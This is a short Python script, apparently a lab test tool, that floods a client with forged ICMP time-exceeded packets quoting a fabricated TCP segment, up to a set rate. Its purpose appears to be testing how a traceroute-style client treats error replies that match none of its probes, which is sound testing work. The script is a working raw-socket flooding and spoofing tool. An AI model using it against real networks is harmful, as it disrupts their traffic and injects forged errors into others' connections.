"""Run in a lab router: python3 flood.py DESTINATION TARGET SECONDS RATE PORT. Floods the client
with time-exceeded datagrams quoting a TCP segment from PORT to TARGET whose sequence number is
0, no probe's own, up to RATE a second; prints how many it sent."""

import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def main():
    destination, target, seconds, rate, port = sys.argv[1:6]
    quoted = struct.pack("!BBHHHBBH4s4sHHI", 0x45, 0, 60, 0, 0, 1, socket.IPPROTO_TCP, 0,
                         socket.inet_aton("198.18.1.2"), socket.inet_aton(target), int(port), 80, 0)
    header = struct.pack("!BBHI", 11, 0, 0, 0)  # time exceeded
    packet = struct.pack("!BBHI", 11, 0, checksum(header + quoted), 0) + quoted
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    start, sent = time.monotonic(), 0
    while time.monotonic() < start + float(seconds):
        sender.sendto(packet, (destination, 0))
        sent += 1
        if sent % 1000 == 0:
            # At most RATE a second, so that a busy machine still forwards the routers' answers.
            time.sleep(max(0.0, start + sent / int(rate) - time.monotonic()))
    print(sent)


if __name__ == "__main__":
    main()
